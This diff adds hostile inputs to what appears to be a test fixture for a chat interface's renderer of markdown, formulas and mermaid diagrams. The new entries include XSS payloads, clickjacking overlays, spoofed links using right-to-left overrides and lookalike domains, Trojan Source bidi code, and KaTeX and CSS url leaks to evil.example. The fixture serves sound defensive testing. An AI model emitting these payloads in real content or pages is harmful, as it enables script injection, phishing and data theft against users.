@@ -61,6 +61,16 @@ const elements = [
   `<x onclick="${run}" contenteditable tabindex=1 autofocus>x</x>`,
   `<p id="root" class="composer" hidden>x</p>`,
   `<form id="announcements"><input name="textContent"></form>`,
+  `<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=${run}>"></style></annotation-xml></math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
+  `<svg><style><img src="</style><img src=x onerror=${run}>"></style></svg>`,
+  `<a style="position:fixed;inset:0;z-index:9;opacity:0" href="${evil}">x</a>`,
+  `<p style="animation-name:x" onanimationstart="${run}">x</p>`,
+  `<base target="_top" href="javascript:${run}//">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
+  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
+  `<form id=f></form><input type=submit form=f formaction="${evil}" formtarget=_top value="Sign in again">`,
+  `<slot name=x><template shadowrootmode=open><script>${run}</script></template></slot>`,
 ]
 
 const images = [
@@ -108,6 +118,17 @@ const links = [
   `[x](tel:+100)`,
   `[x](ms-settings:privacy)`,
   'www.evil.example and evil@evil.example',
+  `[x](data:application/xhtml+xml,<script>${run}</script>)`,
+  `[x](view-source:${evil}) [x](intent://evil.example#Intent;scheme=http;end)`,
+  `[bank\u200B.example\u2060](${evil})`,
+  `[\u202Eelpmaxe.knab//:sptth](${evil})`,
+  `[&#x202E;elpmaxe.knab](${evil}) and so on`,
+  `![&#x202E;elpmaxe.knab//:ptth](${evil})`,
+  `[bank.example (bank.example)](${evil}#bank.example)`,
+  '[аррӏе.com](http://аррӏе.com/) and http://раураӏ.com/',
+  `[Sign in](http://bank.example%2F@evil.example/)`,
+  '[write to the bank](mailto:help@bank.example?bcc=evil@evil.example&body=My%20password)',
+  `[__proto__]: ${evil}\n[constructor]: ${evil}\n\n[__proto__] [constructor] [^__proto__]\n\n[^__proto__]: x`,
 ]
 
 const marks = [
@@ -137,6 +158,11 @@ const directions = [
   '\u0000\u0001\u0008\u001B[31mcontrol\u007F',
   '\uFEFF\u200B\u2060\u00AD'.repeat(200) + 'x',
   '\uD800 half a character \uDC00',
+  `${fence}js\nif (isAdmin\u202E \u2066// only here\u2069 \u2066) {}\n${fence}`,
+  'in `code\u202E that turns` and $\\text{\u202Ea formula}$',
+  `$$\n\u202E\\undefinedcommand\n$$`,
+  `${'> '.repeat(40)}\u202Etoo deep to be drawn`,
+  '&#x202E;&#8238;&rlm; as entities',
 ]
 
 const formulas = [
@@ -147,6 +173,11 @@ const formulas = [
   '$\\def\\x{\\x\\x}\\x$',
   `$$\\text{<img src=x onerror=${run}>}$$`,
   `$${'{'.repeat(500)}x${'}'.repeat(500)}$`,
+  `$\\htmlData{onclick=${run}}{x}$ and $\\htmlStyle{position:fixed}{x}$ and $\\htmlClass{composer}{x}$`,
+  '$\\htmlId{root}{x}$ and $\\cssId{announcements}{x}$ and $\\bbox[url(http://evil.example/leak)]{x}$',
+  '$$\\rule{900em}{900em}\\raisebox{-400em}{Your session has ended}$$',
+  '$\\gdef\\x{evil}$ and then $\\x$',
+  `$\\text{</span><script>${run}</script>}$ and $\\unicode{x202E}$`,
 ]
 
 const diagrams = [
@@ -158,6 +189,11 @@ const diagrams = [
   `graph TD\n A@{ img: "${evil}.png", label: "x" }`,
   'no diagram at all <script>',
   'sequenceDiagram\n A->>B: <iframe src=x>',
+  `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n A["<img src=x onerror=parent.pwned=1>"]`,
+  `graph TD\n A --> B\n click A call parent.pwned(1)`,
+  `graph TD\n A\n classDef x fill:url(${evil}),background:url(${evil})\n class A x`,
+  `graph TD\n A\n style A fill:red;}*{background:url(${evil})}`,
+  `graph TD\n${Array.from({ length: 2_000 }, (_, index) => ` A${index} --> A${index + 1}`).join('\n')}`,
 ].map((source) => `${fence}mermaid\n${source}\n${fence}`)
 
 const shapes = [
@@ -180,6 +216,8 @@ const shapes = [
   `[^1]\n\n[^1]: <script>${run}</script>`,
   '- [x] <input type=checkbox onclick=globalThis.pwned=1>',
   '# '.repeat(500) + 'x',
+  `| a | b |\n| - | - |\n${'| x | y |\n'.repeat(5_000)}`,
+  `| a |\n| - |\n| ${'x'.repeat(30_000)} |\n| [${'y '.repeat(3_000)}](${evil}) |`,
 ]
 
 /** Answers that a hostile model, or one that was led astray by a document, may give. */
